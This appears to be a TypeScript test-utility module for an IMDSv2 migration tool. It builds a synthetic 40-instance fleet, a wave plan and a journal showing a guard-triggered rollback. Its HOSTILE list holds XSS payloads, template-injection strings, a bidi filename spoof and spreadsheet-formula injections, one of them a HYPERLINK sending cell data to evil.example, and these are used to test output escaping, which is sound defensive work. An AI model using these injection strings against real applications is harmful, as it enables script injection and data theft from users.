import type {
  Assessment,
  AutoScalingGroup,
  JournalLine,
  JournalSummary,
  LaunchTemplate,
  Plan,
} from '@imdsv2-cutover/core';
import { Policy, parseJournalText, plan, summarizeJournal } from '@imdsv2-cutover/core';
import { FIXTURE_NOW, generateFleet, makeAssessment, makeMetric, makeProbeReport } from '@imdsv2-cutover/test-utils';

/** Strings a hostile tag, process name or command line might hold. Each tries to set `window.__pwned`. */
export const HOSTILE = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1">',
  "'><svg onload=window.__pwned=1>",
  'javascript:window.__pwned=1',
  '{{constructor.constructor("window.__pwned=1")()}}',
  'safe\u202Egnp.exe\u202C name',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '</script><script>window.__pwned=1</script>',
  '| *bold* [link](javascript:alert(1)) `code` _x_',
  '\u2028line\u2029sep & <b>',
  '-2+3',
  '@SUM(1)',
  '\tTAB',
] as const;

/** The plan the real planner makes for an assessment: canaries, then waves of `waveSize`, everything else held. */
export function planFor(a: Assessment, waveSize = 4): Plan {
  const policy = Policy.parse({
    schema: { name: 'imdsv2-cutover/policy', version: 1 },
    canary: { count: 2, onePerGroup: false },
    waves: { maxInstances: waveSize, maxGroupShare: 1 },
  });
  return plan(a, policy, { tool: { name: 'imdsv2-cutover', version: '0.1.0' } });
}

function launchTemplate(name: string, id: string, v1: boolean): LaunchTemplate {
  const tokens = v1 ? ('optional' as const) : ('required' as const);
  return {
    accountId: '111111111111',
    region: 'us-east-1',
    launchTemplateId: id,
    name,
    defaultVersion: 3,
    latestVersion: 4,
    defaultVersionOptions: v1 ? {} : { httpTokens: tokens },
    latestVersionOptions: { httpTokens: tokens },
    effective: {
      httpTokens: { value: tokens, source: v1 ? 'aws-default' : 'launch-template' },
      httpPutResponseHopLimit: { value: 1, source: 'aws-default' },
      httpEndpoint: { value: 'enabled', source: 'aws-default' },
    },
    launchesImdsV1: v1,
  };
}

function asg(name: string, ltId: string, ids: string[]): AutoScalingGroup {
  return {
    accountId: '111111111111',
    region: 'us-east-1',
    name,
    launchTemplate: { launchTemplateId: ltId },
    desiredCapacity: ids.length,
    instanceIds: ids,
    effective: {
      httpTokens: { value: 'optional', source: 'aws-default' },
      httpPutResponseHopLimit: { value: 1, source: 'aws-default' },
      httpEndpoint: { value: 'enabled', source: 'aws-default' },
    },
    launchesImdsV1: true,
  };
}

/**
 * A small fleet a change board might see: 40 instances in two accounts and regions, some enforced, some blocked by a
 * named process or package, a few unknown; templates and groups that still launch IMDSv1; a plan and a journal.
 * With `hostile`, tags, names, process command lines, ASG and template names carry the HOSTILE strings.
 */
export function demoFleet(options: { hostile?: boolean } = {}): {
  assessment: Assessment;
  plan: Plan;
  journal: JournalLine[];
  /** The journal's summary for the plan, as status and the report see it. */
  journalSummary: JournalSummary;
} {
  const base = generateFleet({ count: 40, seed: 7, shares: { enforced: 0.3, blocked: 0.2, unknown: 0.08 } });
  let n = 0;
  const instances = base.instances.map((i) => {
    n++;
    if (i.readiness.status !== 'blocked') return i;
    // Give each blocked instance a shape: a nightly job, a weekly batch, a recent start.
    const m = i.metrics.noToken;
    i = {
      ...i,
      metrics: {
        noToken: {
          ...m,
          daily: m.daily.map((d, k) => ({
            date: d.date,
            sum: n % 2 === 0 ? (k % 7 === 3 ? 40 * n : 2 * n) : k < 9 ? 0 : 10 * n + k * n,
          })),
        },
      },
    };
    i.metrics.noToken.total = i.metrics.noToken.daily.reduce((s, d) => s + d.sum, 0);
    // Vary the culprits: a Java agent and an old aws-cli besides the fixture's python/botocore.
    if (n % 3 === 1) {
      return {
        ...i,
        probe: {
          outcome: 'ok' as const,
          report: makeProbeReport({
            v1Callers: [
              {
                pid: 812,
                comm: 'java',
                exe: '/usr/lib/jvm/java-8/bin/java',
                argv: 'java -jar /opt/agent/monitor.jar',
                requests: 40,
                parents: [],
                paths: [],
                evidence: 'confirmed',
              },
            ],
            packages: [
              {
                ecosystem: 'java',
                name: 'aws-java-sdk-core',
                version: '1.11.500',
                minimumVersion: '1.11.678',
                status: 'outdated',
                advice: 'upgrade aws-java-sdk-core to 1.11.678 or later',
              },
            ],
          }),
        },
        readiness: {
          status: 'blocked' as const,
          reasons: [
            {
              code: 'v1-caller-found',
              severity: 'blocker' as const,
              message: 'java (monitor.jar) makes IMDSv1 calls.',
              remediation: 'upgrade aws-java-sdk-core to 1.11.678 or later',
            },
          ],
        },
      };
    }
    if (n % 3 === 2) {
      return {
        ...i,
        probe: { outcome: 'not-managed' as const },
        readiness: {
          status: 'blocked' as const,
          reasons: [
            {
              code: 'imdsv1-calls-seen',
              severity: 'blocker' as const,
              message: 'IMDSv1 calls seen; the host could not be probed.',
            },
          ],
        },
      };
    }
    return i;
  });
  if (options.hostile) {
    HOSTILE.forEach((h, k) => {
      const i = instances[k]!;
      instances[k] = {
        ...i,
        name: h,
        tags: { ...i.tags, Name: h, Owner: h, Environment: h, [h]: h },
        autoScalingGroup: h,
        readiness: {
          ...i.readiness,
          reasons: i.readiness.reasons.map((r) => ({ ...r, message: `${r.message} ${h}`, remediation: h })),
        },
        probe: {
          outcome: 'ok',
          detail: h,
          report: makeProbeReport({
            v1Callers: [
              { pid: 9, comm: h, exe: h, argv: h, requests: 1, parents: [], paths: [h], evidence: 'confirmed' },
            ],
            packages: [{ ecosystem: 'python', name: h, version: h, status: 'outdated', advice: h }],
          }),
        },
      };
    });
    // Hostile instances are blocked so they show up in every section.
    for (let k = 0; k < HOSTILE.length; k++)
      instances[k] = {
        ...instances[k]!,
        readiness: {
          status: 'blocked',
          reasons: [{ code: 'v1-caller-found', severity: 'blocker', message: HOSTILE[k]!, remediation: HOSTILE[k] }],
        },
        metrics: { noToken: makeMetric(100 + k) },
      };
  }
  const ltName = options.hostile ? HOSTILE[0] : 'web-prod';
  const launchTemplates = [
    launchTemplate(ltName, 'lt-0a1b2c3d4e5f60718', true),
    launchTemplate('api-prod', 'lt-0a1b2c3d4e5f60719', false),
  ];
  const groupIds = instances
    .filter((i) => i.autoScalingGroup?.startsWith('web-'))
    .map((i) => i.instanceId)
    .slice(0, 3);
  const autoScalingGroups = [asg(options.hostile ? HOSTILE[1] : 'web-prod-asg-1', 'lt-0a1b2c3d4e5f60718', groupIds)];
  const assessment = makeAssessment(instances, { id: 'assessment-demo', launchTemplates, autoScalingGroups });
  const plan = planFor(assessment);
  const at = (min: number) => new Date(Date.parse(FIXTURE_NOW) + 86_400_000 + min * 60_000).toISOString();
  const w0 = plan.waves[0]!.instances;
  const w1 = plan.waves[1]!.instances;
  const target = (e: { instanceId: string; accountId: string; region: string }) => ({
    kind: 'instance' as const,
    instanceId: e.instanceId,
    accountId: e.accountId,
    region: e.region,
  });
  const settings = { httpTokens: 'optional' as const, httpPutResponseHopLimit: 1, httpEndpoint: 'enabled' as const };
  const desired = { ...settings, httpTokens: 'required' as const };
  let seq = 0;
  const journal: JournalLine[] = [
    {
      type: 'header',
      schema: { name: 'imdsv2-cutover/journal', version: 1 },
      journalId: 'journal-demo',
      createdAt: at(0),
      tool: { name: 'imdsv2-cutover', version: '0.1.0' },
      planContentHash: plan.contentHash,
    },
    { type: 'wave-start', seq: seq++, at: at(1), wave: 0, dryRun: false },
    ...w0.flatMap((e): JournalLine[] => [
      {
        type: 'intent',
        seq: seq++,
        at: at(2),
        wave: 0,
        action: 'apply',
        target: target(e),
        previous: settings,
        desired,
      },
      { type: 'result', seq: seq++, at: at(3), wave: 0, action: 'apply', target: target(e), outcome: 'ok' },
      { type: 'verified', seq: seq++, at: at(4), wave: 0, target: target(e), state: 'applied' },
    ]),
    { type: 'guard', seq: seq++, at: at(60), wave: 0, tripped: false, rejected: [] },
    { type: 'wave-end', seq: seq++, at: at(1440), wave: 0, outcome: 'completed' },
    { type: 'wave-start', seq: seq++, at: at(1500), wave: 1, dryRun: false },
    ...w1.flatMap((e): JournalLine[] => [
      {
        type: 'intent',
        seq: seq++,
        at: at(1501),
        wave: 1,
        action: 'apply',
        target: target(e),
        previous: settings,
        desired,
      },
      { type: 'result', seq: seq++, at: at(1502), wave: 1, action: 'apply', target: target(e), outcome: 'ok' },
      { type: 'verified', seq: seq++, at: at(1503), wave: 1, target: target(e), state: 'applied' },
    ]),
    {
      type: 'guard',
      seq: seq++,
      at: at(1560),
      wave: 1,
      tripped: true,
      rejected: [{ instanceId: w1[0]!.instanceId, calls: 7 }],
    },
    ...w1.flatMap((e): JournalLine[] => [
      {
        type: 'intent',
        seq: seq++,
        at: at(1561),
        wave: 1,
        action: 'rollback',
        target: target(e),
        previous: desired,
        desired: settings,
      },
      { type: 'result', seq: seq++, at: at(1562), wave: 1, action: 'rollback', target: target(e), outcome: 'ok' },
    ]),
    {
      type: 'wave-end',
      seq: seq++,
      at: at(1563),
      wave: 1,
      outcome: 'rolled-back',
      message: 'guard tripped: rejected IMDSv1 calls',
    },
  ];
  return {
    assessment,
    plan,
    journal,
    journalSummary: summarizeJournal(parseJournalText(journalText(journal), 'journal.jsonl'), plan),
  };
}

/** Journal lines as the writer stores them: one JSON document a line, each ending in a newline. */
export function journalText(lines: readonly JournalLine[]): string {
  return lines.map((l) => `${JSON.stringify(l)}\n`).join('');
}
